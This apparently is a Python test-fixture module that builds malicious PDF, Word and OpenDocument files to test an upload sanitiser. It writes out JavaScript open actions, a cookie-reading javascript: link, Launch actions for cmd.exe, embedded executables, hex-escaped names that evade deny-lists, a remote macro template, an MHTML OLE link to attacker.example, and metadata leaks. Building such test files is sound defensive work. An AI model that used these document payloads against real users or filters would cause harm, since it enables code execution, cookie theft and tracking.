"""Documents that act, link out or leak: each variant that got past the old deny-lists, made in code.

Every one is a document a person could really send; none is refused. What matters is what is served afterwards.
"""

from __future__ import annotations

import io
import zipfile

import pikepdf

from tests.uploads.corpus import CANARY, docx, odt, pdf

NETWORK_SHARE = r"\\fileserver.example\share\payload.pdf"
HIDDEN_TEXT = "HIDDEN DELETED WORDS"

# --- PDFs -----------------------------------------------------------------------------------------------------------


def _js(code: str = "app.alert(1)") -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))


def _link(doc: pikepdf.Pdf, action: pikepdf.Dictionary) -> None:
    """A direct link annotation over the whole page carrying `action` as a direct object."""
    annot = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 200, 200], Border=[0, 0, 0], A=action
    )
    doc.pages[0].obj.Annots = pikepdf.Array([annot])


def direct_open_action(doc: pikepdf.Pdf) -> None:
    doc.Root.OpenAction = _js()  # direct: no object of its own for a walker to meet


def link_with_javascript(doc: pikepdf.Pdf) -> None:
    _link(doc, _js("this.exportDataObject({cName: 'x', nLaunch: 2})"))


def gotor_network_share(doc: pikepdf.Pdf) -> None:
    _link(doc, pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String(NETWORK_SHARE), D=[0, pikepdf.Name.Fit]))


def javascript_uri(doc: pikepdf.Pdf) -> None:
    _link(doc, pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:alert(document.cookie)")))


def file_uri(doc: pikepdf.Pdf) -> None:
    _link(doc, pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("file:///C:/Windows/System32/calc.exe")))


def _payload(doc: pikepdf.Pdf, with_type: bool) -> pikepdf.Stream:
    stream = pikepdf.Stream(doc, b"MZ\x90\x00payload " + CANARY.encode())
    if with_type:
        stream.Type = pikepdf.Name.EmbeddedFile
    return stream


def attachment_without_type(doc: pikepdf.Pdf) -> None:
    """A file attachment annotation whose embedded stream has no /Type /EmbeddedFile."""
    spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("invoice.exe"))
    spec.EF = pikepdf.Dictionary(F=_payload(doc, with_type=False))
    annot = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[10, 10, 30, 30], FS=spec
    )
    doc.pages[0].obj.Annots = pikepdf.Array([annot])


def direct_embedded_files(doc: pikepdf.Pdf) -> None:
    """/Names /EmbeddedFiles spelled as direct dictionaries in the catalogue."""
    spec = pikepdf.Dictionary(F=pikepdf.String("run.exe"), EF=pikepdf.Dictionary(F=_payload(doc, with_type=True)))
    doc.Root.Names = pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary(Names=[pikepdf.String("run.exe"), spec]))


def launch_in_annotation_aa(doc: pikepdf.Pdf) -> None:
    annot = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Widget,
        FT=pikepdf.Name.Btn,
        T=pikepdf.String("go"),
        Rect=[0, 0, 200, 200],
        AA=pikepdf.Dictionary(E=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))),
    )
    widget = doc.make_indirect(annot)
    doc.pages[0].obj.Annots = pikepdf.Array([widget])
    doc.Root.AcroForm = pikepdf.Dictionary(Fields=[widget])  # a form field, as form-filling software makes it


def hex_encoded_names() -> bytes:
    """Every action name spelled with #xx escapes, uncompressed: /J#61vaScript, /#4aS, /Op#65nAction, /L#61unch."""
    raw = acting_pdf(direct_open_action, object_streams=False)
    for plain, escaped in (
        (b"/JavaScript", b"/J#61vaScript"),
        (b"/JS ", b"/#4aS "),
        (b"/JS(", b"/#4aS("),
        (b"/OpenAction", b"/Op#65nAction"),
    ):
        raw = raw.replace(plain, escaped)
    assert b"/J#61vaScript" in raw and b"/Op#65nAction" in raw
    return raw


def _with_text(doc: pikepdf.Pdf) -> None:
    """Visible words on the page, so the rebuilt page is not blank."""
    font = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
    page = doc.pages[0]
    page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
    page.Contents = doc.make_stream(b"BT /F1 18 Tf 20 100 Td (Fire escape plan) Tj ET")


def acting_pdf(*actions, object_streams: bool = True) -> bytes:
    """A page of text plus `actions`; objects packed in compressed object streams unless `object_streams` is False."""

    def build(doc):
        _with_text(doc)
        for action in actions:
            action(doc)

    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    return pdf(build, object_stream_mode=mode)


# --- Word and OpenDocument ------------------------------------------------------------------------------------------

_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _rels(*relationships: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships">' + "".join(relationships) + "</Relationships>"
    )


def _document(body: str, namespaces: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><w:document {_W} xmlns:r="{_R}" {namespaces}><w:body>'
        f"<w:p><w:r><w:t>Fire escape plan</w:t></w:r></w:p>{body}</w:body></w:document>"
    )


def docx_external_template(target: str = "http://templates.example/macro.dotm") -> bytes:
    settings = f'<?xml version="1.0" encoding="UTF-8"?><w:settings {_W} xmlns:r="{_R}"><w:attachedTemplate r:id="rId1"/></w:settings>'
    return docx(
        extra={
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": _rels(
                f'<Relationship Id="rId1" Type="{_R}/attachedTemplate" Target="{target}" TargetMode="External"/>'
            ),
        }
    )


def _replace_document(data: bytes, document: str, rels: str) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            body = src.read(info)
            if info.filename == "word/document.xml":
                body = document.encode()
            elif info.filename == "word/_rels/document.xml.rels":
                body = rels.encode()
            out.writestr(info.filename, body)
    return buf.getvalue()


def docx_mhtml_ole_link() -> bytes:
    body = (
        '<w:p><w:r><w:object><v:shape id="_x0000_i1025" style="width:100pt;height:20pt"/>'
        '<o:OLEObject Type="Link" ProgID="htmlfile" ShapeID="_x0000_i1025" DrawAspect="Content" r:id="rId5" '
        'UpdateMode="Always"><o:LinkType>EnhancedMetaFile</o:LinkType></o:OLEObject></w:object></w:r></w:p>'
    )
    target = "mhtml:http://attacker.example/page.html!x-usc:http://attacker.example/page.html"
    rel = f'<Relationship Id="rId5" Type="{_R}/oleObject" Target="{target}" TargetMode="External"/>'
    ns = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
    return _replace_document(docx(), _document(body, ns), _rels(rel))


def docx_network_share_image(target: str = "file://fileserver.example/share/track.png") -> bytes:
    body = (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/><wp:docPr id="1" name="p"/>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
        '<pic:nvPicPr><pic:cNvPr id="0" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rId7"/>'
        '</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm>'
        '<a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
    )
    ns = (
        'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
    )
    rel = f'<Relationship Id="rId7" Type="{_R}/image" Target="{target}" TargetMode="External"/>'
    return _replace_document(docx(), _document(body, ns), _rels(rel))


def docx_tracked_changes_and_comments() -> bytes:
    body = (
        f'<w:p><w:ins w:id="1" w:author="{CANARY}" w:date="2021-06-05T10:11:12Z"><w:r><w:t>Added words</w:t></w:r>'
        f'</w:ins><w:del w:id="2" w:author="{CANARY}" w:date="2021-06-05T10:11:12Z"><w:r><w:delText>{HIDDEN_TEXT}'
        '</w:delText></w:r></w:del></w:p><w:p><w:commentRangeStart w:id="0"/><w:r><w:t>Commented</w:t></w:r>'
        '<w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r></w:p>'
    )
    comments = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:comments {_W}><w:comment w:id="0" w:author="{CANARY}" '
        f'w:initials="CS"><w:p><w:r><w:t>{CANARY} lives here</w:t></w:r></w:p></w:comment></w:comments>'
    )
    rel = f'<Relationship Id="rId3" Type="{_R}/comments" Target="comments.xml"/>'
    data = _replace_document(docx(core_author=CANARY), _document(body), _rels(rel))
    return _add_parts(data, {"word/comments.xml": comments})


def _add_parts(data: bytes, parts: dict) -> bytes:
    buf = io.BytesIO(data)
    with zipfile.ZipFile(buf, "a", zipfile.ZIP_DEFLATED) as z:
        existing = set(z.namelist())
        for name, body in parts.items():
            if name not in existing:
                z.writestr(name, body)
    return buf.getvalue()


def docx_custom_xml_and_thumbnail(photo_with_gps: bytes) -> bytes:
    return docx(
        core_author=CANARY,
        company=CANARY,
        media=photo_with_gps,
        extra={
            "customXml/item1.xml": f'<?xml version="1.0"?><case><carer>{CANARY}</carer></case>',
            "docProps/thumbnail.jpeg": photo_with_gps,
            "docProps/custom.xml": (
                '<?xml version="1.0"?><Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
                'custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
                f'<property fmtid="{{D5CDD505-2E9C-101B-9397-08002B2CF9AE}}" pid="2" name="Address"><vt:lpwstr>{CANARY}'
                "</vt:lpwstr></property></Properties>"
            ),
        },
    )


def docx_with_picture(photo_with_gps: bytes) -> bytes:
    """A picture shown in the body, carrying GPS and the author in its EXIF."""
    body = (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="1143000" cy="857250"/><wp:docPr id="1" name="p"/>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
        '<pic:nvPicPr><pic:cNvPr id="0" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="rId9"/>'
        '</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1143000" cy="857250"/></a:xfrm>'
        '<a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
    )
    ns = (
        'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
    )
    rel = f'<Relationship Id="rId9" Type="{_R}/image" Target="media/image1.jpeg"/>'
    return _replace_document(docx(core_author=CANARY, media=photo_with_gps), _document(body, ns), _rels(rel))


def odt_with_picture(photo_with_gps: bytes) -> bytes:
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:'
        'opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:'
        'xmlns:svg-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><office:body><office:text>'
        # a tracked deletion and a comment, both signed with the author's name
        '<text:tracked-changes><text:changed-region text:id="ct1"><text:deletion><office:change-info>'
        f"<dc:creator>{CANARY}</dc:creator><dc:date>2021-06-05T10:11:12</dc:date></office:change-info>"
        f"<text:p>{HIDDEN_TEXT}</text:p></text:deletion></text:changed-region></text:tracked-changes>"
        f'<text:p>Plan<text:change text:change-id="ct1"/><office:annotation><dc:creator>{CANARY}</dc:creator>'
        "<text:p>A comment</text:p></office:annotation></text:p>"
        '<text:p><draw:frame draw:name="p" svg:width="3cm" svg:height="2cm">'
        '<draw:image xlink:href="Pictures/photo.jpg" xlink:type="simple" xlink:show="embed"/></draw:frame></text:p>'
        "</office:text></office:body></office:document-content>"
    )
    data = odt({"Pictures/photo.jpg": photo_with_gps}, meta_author=CANARY)
    src = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            body = content.encode() if info.filename == "content.xml" else src.read(info)
            kind = zipfile.ZIP_STORED if info.filename == "mimetype" else zipfile.ZIP_DEFLATED
            out.writestr(info.filename, body, compress_type=kind)
    return buf.getvalue()
